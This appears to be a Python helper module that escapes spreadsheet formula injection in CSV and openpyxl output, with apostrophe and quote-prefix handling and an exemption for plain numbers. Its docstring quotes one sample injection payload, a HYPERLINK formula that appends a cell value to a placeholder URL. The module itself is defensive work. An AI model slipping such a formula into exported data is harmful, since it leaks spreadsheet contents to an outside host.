"""Output safety: text from an input must never become a formula in what we write.

A spreadsheet takes a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return) for a formula: a project named ``=HYPERLINK("http://x"&A1,"x")`` would
come out live.  CSV cells get Excel's own escape, a leading apostrophe; workbook cells are written
as text with Excel's quote prefix.  Plain numbers such as ``-3`` or ``+2.5%`` are left alone: no
program reads those as formulas.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+(?:\.\d+)?%?$")


def risky(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(value)


def csv_cell(value) -> str:
    s = "" if value is None else str(value)
    return "'" + s if risky(s) else s


def set_text(cell, value) -> None:
    """Write ``value`` into an openpyxl cell; text that looks like a formula stays text."""
    cell.value = value
    if risky(value):
        cell.data_type = "s"        # openpyxl took it for a formula ('f'); it is text
        cell.quotePrefix = True     # and Excel keeps it text when the cell is edited
